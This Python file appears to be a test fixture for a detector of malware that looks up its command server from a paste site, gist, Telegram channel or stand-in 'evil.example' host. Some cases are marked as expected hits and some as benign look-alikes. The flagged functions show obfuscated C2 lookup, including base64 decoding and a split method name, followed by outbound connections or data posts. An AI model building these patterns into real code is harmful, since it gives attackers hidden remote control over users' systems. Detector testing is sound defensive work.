import base64
import re
import socket

import requests

PAGE = "https://pastebin.com/raw/abcdef"


def plain():
    address = requests.get(PAGE).text.strip()
    requests.get(address)  # expect: hit


def decoded():
    text = requests.get("https://gist.githubusercontent.com/u/1/raw").text
    requests.post(base64.b64decode(text).decode(), data={"a": 1})  # expect: hit


def connected():
    host, port = requests.get("https://board.evil.example/p").text.split(":")
    s = socket.socket()
    s.connect((host, int(port)))  # expect: hit


def _page():
    return getattr(requests, "g" + "et")("https://t" + ".me/s/chan").text


def _host(page):
    return re.search(r"c2=(\\S+)", page).group(1)


def split():
    requests.get("http://" + _host(_page()) + "/task")  # expect: hit


# look-alikes
def paged():
    answer = requests.get("https://api.evil.example/items").json()
    while answer["next"]:
        answer = requests.get(answer["next"]).json()


def asset():
    release = requests.get("https://api.evil.example/releases/latest").json()
    return requests.get(release["assets"][0]["browser_download_url"])


def path():
    name = requests.get(PAGE).text
    return requests.get("https://static.evil.example/" + name)
